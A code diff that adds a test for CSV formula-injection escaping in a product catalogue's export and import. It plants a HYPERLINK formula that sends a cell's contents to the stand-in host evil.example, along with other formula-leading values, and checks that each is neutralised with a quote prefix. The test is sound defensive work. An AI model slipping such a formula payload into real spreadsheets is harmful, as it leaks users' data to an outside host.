@@ -2,7 +2,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
-import { sql } from 'drizzle-orm';
+import { eq, sql } from 'drizzle-orm';
 import { cacheTags } from '@/lib/cache-tags';
 import { csvColumns } from '@/lib/catalog/editing/csv/columns';
 import { exportProductsCsv } from '@/lib/catalog/editing/csv/export-products-csv';
@@ -176,6 +176,44 @@ describeAppDatabase(
         listed.rows.map((row) => row.sku).sort(),
       );
       expect(rows.every((row) => row.status === 'published')).toBe(true);
+    });
+    it('writes cells a spreadsheet would run as text, and reads them back unchanged', async () => {
+      const ids = (
+        await getDb().select({ id: products.id }).from(products).orderBy(products.id).limit(4)
+      ).map((row) => row.id);
+      const planted = [
+        { description: '=HYPERLINK("http://evil.example/?"&A1,"Open")', care: '+1 dry clean' },
+        { description: '-hand embroidered\n-silk lining', care: '@home: air it' },
+        // Staff's own text that begins with a quote, with or without a formula after it.
+        { description: "'=not a formula, as typed", care: "''-two quotes" },
+        { description: "'Ivory' is the colour", care: 'Dry clean only' },
+      ];
+      for (const [index, values] of planted.entries()) {
+        await getDb().update(products).set(values).where(eq(products.id, ids[index]!));
+      }
+      const text = await exportAll();
+      const cells = rowsOf(text);
+      const has = (column: 'description' | 'care', value: string) =>
+        cells.some((row) => row[column] === value);
+      expect(has('description', `'=HYPERLINK("http://evil.example/?"&A1,"Open")`)).toBe(true);
+      expect(has('care', "'+1 dry clean")).toBe(true);
+      expect(has('description', "'-hand embroidered\n-silk lining")).toBe(true);
+      expect(has('care', "'@home: air it")).toBe(true);
+      expect(has('description', "''=not a formula, as typed")).toBe(true);
+      expect(has('care', "'''-two quotes")).toBe(true);
+      expect(has('description', "'Ivory' is the colour")).toBe(true);
+      // No cell of the file begins as a formula would.
+      expect(cells.flatMap(Object.values).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+
+      const before = await catalogueState();
+      const audits = await auditCount();
+      const applied = await importProductsCsv(manager, text, { dryRun: false });
+      expect(applied).toMatchObject({ applied: true, errors: [] });
+      expect(applied.counts).toMatchObject({ create: 0, update: 0 });
+      expect(await catalogueState()).toEqual(before);
+      expect(await auditCount()).toBe(audits);
+      const [kept] = await getDb().select().from(products).where(eq(products.id, ids[2]!));
+      expect(kept).toMatchObject(planted[2]!);
     });
   },
 );
